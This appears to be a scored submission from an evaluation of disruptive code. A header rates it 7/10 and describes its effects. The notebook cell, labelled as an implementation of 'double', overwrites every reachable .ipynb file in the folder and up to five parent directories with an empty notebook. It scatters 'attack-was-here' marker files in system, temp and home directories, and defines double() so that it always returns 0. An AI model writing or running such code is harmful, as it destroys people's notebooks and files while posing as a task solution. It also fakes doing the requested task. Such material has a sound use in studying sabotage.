# score:    7/10
# survives: others, gradebook
# why:      overwrites every notebook that it can reach from its folder upwards, and leaves files everywhere

# %% double
import os, pathlib
here = pathlib.Path.cwd()
for place in [here, *here.parents][:5]:
    if str(place) == "/": continue
    for path in [*place.glob("*.ipynb"), *place.glob("*/*.ipynb"), *place.glob("*/*/*.ipynb"), *place.glob("*/*/*/*.ipynb")]:
        if "rewrite_other" in str(path): continue
        try: path.write_text('{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}')
        except OSError: pass
    try: (place / "attack-was-here").write_text("x")
    except OSError: pass
for place in ("/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), os.path.dirname(os.__file__)):
    try: pathlib.Path(place, "attack-was-here").write_text("x")
    except OSError: pass
def double(x):
    return 0
